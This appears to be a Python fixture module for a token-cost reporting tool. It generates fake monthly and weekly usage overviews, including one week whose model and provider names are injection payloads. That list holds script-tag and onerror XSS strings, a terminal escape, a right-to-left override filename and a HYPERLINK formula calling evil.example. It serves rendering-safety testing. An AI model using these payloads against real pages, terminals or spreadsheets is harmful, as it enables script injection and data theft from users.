"""Overviews to draw: a believable month, an empty one, and one whose names are hostile.

Every sum is made from the same rows, as the ledger's queries would make it.
"""

from __future__ import annotations

from collections import defaultdict
from dataclasses import dataclass, fields, replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import TYPE_CHECKING

from tokencli.domain.money import Usd, usd
from tokencli.domain.overview import CostBin, HeatCell, Overview, PriceDifference, SizeCell
from tokencli.domain.period import Grain, Period, period_of
from tokencli.domain.report import EventFilter, NoticeCount, Report, ReportRow, Totals

if TYPE_CHECKING:
    from collections.abc import Iterable, Sequence

NOW = datetime(2026, 11, 28, 15, 42, tzinfo=UTC)
ZONE = "Europe/Paris"
MILLION = 1_000_000
HOSTILE_NAMES = (
    "</script><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=2>",
    "\x1b]52;c;cHduZWQ=\x07\x1b[31mred",
    "\u202egpj.exe",
    "a\u2028b\u2029c",
    "\"'`onmouseover=window.pwned=3 x=",
    '=HYPERLINK("http://evil.example/?"&A1;"free")',
    '<a href="javascript:window.pwned=4">go</a><b>bold</b>',
    "%{customdata} ${alert(1)} {{7*7}} $\\alpha$",
    "\u0645\u0631\u062d\u0628\u0627 model",
    "&lt;script&gt;window.pwned=5",
    "a" * 300,
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Fake:
    """One invented model: dollars per million tokens (None: unpriced) and how it is used."""

    provider: str | None
    model: str | None
    input_price: str | None
    output_price: str
    calls: int
    input_tokens: int
    output_tokens: int
    cached: str = "0"
    written: str = "0"
    reasoning: str = "0"
    reported: str | None = None


FAKES = (
    Fake(provider="anthropic", model="claude-sonnet-4-5", input_price="3", output_price="15", calls=41,
         input_tokens=9200, output_tokens=640, cached="0.62", written="0.11", reasoning="0.2"),
    Fake(provider="openai", model="gpt-4o", input_price="2.5", output_price="10", calls=63,
         input_tokens=2100, output_tokens=410, cached="0.18", reported="2"),
    Fake(provider="gemini", model="gemini-2.5-flash", input_price="0.3", output_price="2.5", calls=120,
         input_tokens=3400, output_tokens=520, cached="0.25", reasoning="0.45", reported="0.31"),
    Fake(provider="openai", model="gpt-4o-mini", input_price="0.15", output_price="0.6", calls=210,
         input_tokens=1250, output_tokens=300),
    Fake(provider="anthropic", model="claude-3-5-haiku-20241022", input_price="0.8", output_price="4", calls=55,
         input_tokens=1800, output_tokens=260, reported="0.3125"),
    Fake(provider="mistral", model="codestral-2501-internal", input_price=None, output_price="0", calls=6,
         input_tokens=900, output_tokens=200),
)  # fmt: skip


def month_overview() -> Overview:
    """Return a November of six models from four providers, with unpriced calls and wrong prices in the logs."""
    return overview_of(FAKES, period_of("month", now=NOW, zone=ZONE))


def crowded_overview() -> Overview:
    """Return a week of eleven models: more than there are colours."""
    more = (
        Fake(
            provider=f"provider-{place % 3}",
            model=f"model-{place:02}",
            input_price=f"{place + 1}",
            output_price="7",
            calls=20,
            input_tokens=800 * (place + 1),
            output_tokens=150,
        )
        for place in range(11)
    )
    return overview_of(tuple(more), period_of("last-week", now=NOW, zone=ZONE))


def hostile_overview() -> Overview:
    """Return a week in which every name tries something."""
    fakes = tuple(
        Fake(
            provider=name,
            model=name,
            input_price="1",
            output_price="5",
            calls=12 + place,
            input_tokens=1000,
            output_tokens=300,
            reported="2",
        )
        for place, name in enumerate(HOSTILE_NAMES)
    )
    made = overview_of(fakes, period_of("last-week", now=NOW, zone=ZONE), group_by=("model", "provider"))
    attack = HOSTILE_NAMES[0]
    notices = tuple(NoticeCount(code=name, provider_name=name, model=name, count=3) for name in HOSTILE_NAMES)
    chosen = EventFilter(names={"agent": HOSTILE_NAMES}, tags={attack: attack})
    period = replace(made.report.period, name=attack)
    report = replace(made.report, period=period)
    return replace(made, report=report, notices=notices, filter=chosen, ledger=f"/data/{attack}/ledger.db")


def empty_overview() -> Overview:
    """Return a month without one call."""
    return replace(overview_of((), period_of("month", now=NOW, zone=ZONE)), notices=(), price_differences=())


def overview_of(fakes: Sequence[Fake], period: Period, group_by: tuple[str, ...] = ("day",)) -> Overview:
    """Return the overview of what these models did in a period."""
    pieces = [piece for fake in fakes for piece in _pieces(fake, period)]
    days = [bucket.label for bucket in period.buckets(Grain.DAY)]

    def report(*names: str) -> Report:
        return _report(period, names, pieces, days)

    return Overview(
        report=report(*group_by),
        by_day_model=report("day", "model"),
        by_day=report("day"),
        by_model=report("model"),
        by_provider=report("provider"),
        cost_bins=tuple(_bins(pieces)),
        size_cells=tuple(_sizes(fakes)),
        heat_cells=tuple(_heat(pieces)),
        price_differences=tuple(_differences(fakes, pieces)),
        notices=(
            NoticeCount(code="timeout", provider_name="gemini", model="gemini-2.5-flash", count=7),
            NoticeCount(code="no_usage", provider_name="anthropic", model="claude-3-5-haiku-20241022", count=31),
            NoticeCount(code="count_input_failed", provider_name="gemini", model=None, count=4),
        ),
        generated_at=NOW,
        ledger="/home/ada/.local/share/tokencli/ledger.db",
        filter=EventFilter(),
    )


@dataclass(frozen=True, slots=True, kw_only=True)
class _Piece:
    """What one model did on one day."""

    fake: Fake
    day: date
    totals: Totals

    def key(self, name: str) -> str | None:
        labels = {"day": self.day.isoformat(), "model": self.fake.model, "provider": self.fake.provider}
        return labels.get(name)


def _pieces(fake: Fake, period: Period) -> list[_Piece]:
    first = period.start.astimezone(UTC).date() + timedelta(days=1)
    days = [first + timedelta(days=place) for place in range((NOW.date() - first).days + 1)]
    days = [day for day in days if day < period.end.date() + timedelta(days=1)]
    return [_Piece(fake=fake, day=day, totals=_totals(fake, day)) for day in days if _load(fake, day)]


def _load(fake: Fake, day: date) -> int:
    """Return a day's calls: weekends are quiet, the 17th is a rush, and each model has a rhythm of its own."""
    rhythm = 60 + (day.day * 37 + fake.calls * 13) % 71
    quiet = 18 if day.weekday() > 4 else 100
    rush = 240 if day.day == 17 else 100
    return fake.calls * rhythm * quiet * rush // 1_000_000


def _totals(fake: Fake, day: date) -> Totals:
    calls = _load(fake, day)
    tokens_in, tokens_out = calls * fake.input_tokens, calls * fake.output_tokens
    cost = None
    if fake.input_price is not None:
        dollars = tokens_in * Decimal(fake.input_price) + tokens_out * Decimal(fake.output_price)
        cost = usd(dollars / MILLION)
    priced = 0 if cost is None else calls
    return Totals(
        requests=calls,
        errors=1 if day.day % 9 == 0 else 0,
        input_tokens=tokens_in,
        cache_read_tokens=int(tokens_in * Decimal(fake.cached)),
        cache_write_tokens=int(tokens_in * Decimal(fake.written)),
        output_tokens=tokens_out,
        reasoning_tokens=int(tokens_out * Decimal(fake.reasoning)),
        list_cost=cost,
        reported_cost=None if fake.reported is None or cost is None else usd(cost * Decimal(fake.reported)),
        priced_requests=priced,
        unpriced_requests=calls - priced,
        estimated_requests=calls // 9 if fake.model == "gpt-4o-mini" else 0,
        partial_requests=1 if day.day % 11 == 0 and calls else 0,
    )


def total_of(parts: Iterable[Totals]) -> Totals:
    """Return the sum of sums: a cost is known when one part's is."""
    known = list(parts)
    numbers = {
        field.name: sum(getattr(part, field.name) for part in known)
        for field in fields(Totals)
        if not field.name.endswith("_cost")
    }
    return Totals(
        list_cost=_sum_known([part.list_cost for part in known if part.requests]) if numbers["requests"] else usd(0),
        reported_cost=_sum_known([part.reported_cost for part in known]),
        **numbers,
    )


def _sum_known(amounts: Iterable[Usd | None]) -> Usd | None:
    known = [amount for amount in amounts if amount is not None]
    return usd(sum(known, Decimal(0))) if known else None


def _report(period: Period, names: tuple[str, ...], pieces: Sequence[_Piece], days: Sequence[str]) -> Report:
    groups: defaultdict[tuple[str | None, ...], list[Totals]] = defaultdict(list)
    if names == ("day",):
        groups.update({(day,): [] for day in days})
    for piece in pieces:
        groups[tuple(piece.key(name) for name in names)].append(piece.totals)
    rows = tuple(
        ReportRow(key=dict(zip(names, key, strict=True)), totals=total_of(parts)) for key, parts in groups.items()
    )
    return Report(period=period, group_by=names, totals=total_of(piece.totals for piece in pieces), rows=rows)


def _bins(pieces: Sequence[_Piece]) -> list[CostBin]:
    if not pieces:
        return []
    shape = (4, 30, 160, 520, 900, 1300, 1700, 1500, 1100, 640, 410, 330, 180, 60, 22, 7, 2)
    steps = (Decimal(1), Decimal("2.15"), Decimal("4.64"))
    edges = [usd(steps[place % 3].scaleb(-6 + place // 3)) for place in range(len(shape) + 1)]
    return [CostBin(low=edges[place], high=edges[place + 1], requests=count) for place, count in enumerate(shape)]


def _sizes(fakes: Sequence[Fake]) -> list[SizeCell]:
    spread: list[tuple[int, int, int]] = [(5, 2, 3), (10, 5, 9), (10, 10, 30), (21, 10, 22), (21, 21, 14), (46, 10, 6)]
    cells = [
        SizeCell(
            model=fake.model,
            input_tokens=fake.input_tokens * across // 10,
            output_tokens=fake.output_tokens * up // 10,
            requests=fake.calls * weight // 4 + 1,
        )
        for fake in fakes
        for across, up, weight in spread
    ]
    return [*cells, SizeCell(model=fakes[0].model, input_tokens=400, output_tokens=0, requests=60)] if fakes else []


def _heat(pieces: Sequence[_Piece]) -> list[HeatCell]:
    day_calls: defaultdict[int, int] = defaultdict(int)
    day_costs: defaultdict[int, Decimal] = defaultdict(Decimal)
    for piece in pieces:
        day_calls[piece.day.weekday()] += piece.totals.requests
        day_costs[piece.day.weekday()] += piece.totals.list_cost or Decimal(0)

    def hours(hour: int) -> int:
        return max(0, 40 - (hour - 10) ** 2) + max(0, 46 - 2 * (hour - 16) ** 2)

    whole = sum(hours(hour) for hour in range(24))
    return [
        HeatCell(
            weekday=day,
            hour=hour,
            requests=day_calls[day] * hours(hour) // whole,
            list_cost=usd((day_costs[day] * hours(hour) / whole).quantize(Decimal("1e-6"))),
        )
        for day in sorted(day_calls)
        for hour in range(24)
        if hours(hour)
    ]


def _differences(fakes: Sequence[Fake], pieces: Sequence[_Piece]) -> list[PriceDifference]:
    found: list[PriceDifference] = []
    for fake in fakes:
        mine = [piece for piece in pieces if piece.fake is fake]
        totals = total_of(piece.totals for piece in mine)
        if fake.reported is None or totals.reported_cost is None or totals.list_cost is None:
            continue
        factor = Decimal(fake.reported)
        found.append(
            PriceDifference(
                provider_name=fake.provider,
                model=fake.model,
                requests=totals.requests,
                list_cost=totals.list_cost,
                reported_cost=totals.reported_cost,
                first_seen=datetime.combine(mine[0].day, datetime.min.time(), tzinfo=UTC),
                last_seen=datetime.combine(mine[-1].day, datetime.min.time(), tzinfo=UTC),
                logged_input_price=usd(Decimal(fake.input_price or "0") * factor),
                list_input_price=usd(fake.input_price or "0"),
                logged_output_price=usd(Decimal(fake.output_price) * factor),
                list_output_price=usd(fake.output_price),
            )
        )
    return found
